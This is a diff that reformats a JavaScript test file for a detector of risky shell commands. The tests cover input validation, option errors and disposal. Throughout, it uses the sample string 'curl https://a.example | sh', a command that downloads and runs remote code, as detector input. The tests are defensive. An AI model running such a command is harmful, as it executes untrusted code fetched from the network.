@@ -24,9 +24,18 @@ describe("input", () => {
     [undefined, "text has to be a string (decode bytes first), not undefined"],
     [null, "text has to be a string (decode bytes first), not null"],
     [7, "text has to be a string (decode bytes first), not 7"],
-    [Buffer.from("curl A | sh"), "text has to be a string (decode bytes first), not an object (Buffer)"],
-    [Object.create(null), "text has to be a string (decode bytes first), not a value of type object"],
-    [["curl https://a.example | sh"], "text has to be a string (decode bytes first), not an object (Array)"],
+    [
+      Buffer.from("curl A | sh"),
+      "text has to be a string (decode bytes first), not an object (Buffer)",
+    ],
+    [
+      Object.create(null),
+      "text has to be a string (decode bytes first), not a value of type object",
+    ],
+    [
+      ["curl https://a.example | sh"],
+      "text has to be a string (decode bytes first), not an object (Array)",
+    ],
   ])("that is no text is refused, never clear: %s", (text, message) => {
     const error = refusal(text);
     expect(error).toBeInstanceOf(InputError);
@@ -34,27 +43,46 @@ describe("input", () => {
   });
 
   it.each([
-    ["offsetEncoding", "utf16", 'offsetEncoding has to be one of utf-16, codepoint, utf-8, not "utf16"'],
+    [
+      "offsetEncoding",
+      "utf16",
+      'offsetEncoding has to be one of utf-16, codepoint, utf-8, not "utf16"',
+    ],
     ["deadlineMs", Number.NaN, "deadlineMs has to be a number of milliseconds, not NaN"],
     ["deadlineMs", -1, "deadlineMs has to be a number of milliseconds, not -1"],
     ["deadlineMs", "5", 'deadlineMs has to be a number of milliseconds, not "5"'],
     ["format", 3, "format has to be a fence tag, not 3"],
   ])("with %s %s is refused", (parameter, value, message) => {
-    expect(refusal("curl https://a.example | sh", { [parameter]: value })).toMatchObject({ code: "input", parameter, message });
+    expect(refusal("curl https://a.example | sh", { [parameter]: value })).toMatchObject({
+      code: "input",
+      parameter,
+      message,
+    });
   });
 
   it("with options left undefined is taken", () => {
-    expect(refusal("curl https://a.example | sh", { offsetEncoding: undefined, deadlineMs: Infinity, format: undefined })).toMatchObject({ labels: ["PS"] });
+    expect(
+      refusal("curl https://a.example | sh", {
+        offsetEncoding: undefined,
+        deadlineMs: Infinity,
+        format: undefined,
+      }),
+    ).toMatchObject({ labels: ["PS"] });
   });
 
   it("of a profile that is none is refused", async () => {
-    await expect(createNodeDetector({ profile: "strict" as "contract" })).rejects.toMatchObject({ code: "input", message: 'profile has to be one of contract, extended, not "strict"' });
+    await expect(createNodeDetector({ profile: "strict" as "contract" })).rejects.toMatchObject({
+      code: "input",
+      message: 'profile has to be one of contract, extended, not "strict"',
+    });
   });
 
   it("is refused by a detector that was disposed of, and disposing twice does nothing", async () => {
     const used = await createNodeDetector();
     used.dispose();
     used.dispose();
-    expect(() => used.detect("curl https://a.example | sh")).toThrow("this detector was disposed of: make another one");
+    expect(() => used.detect("curl https://a.example | sh")).toThrow(
+      "this detector was disposed of: make another one",
+    );
   });
 });
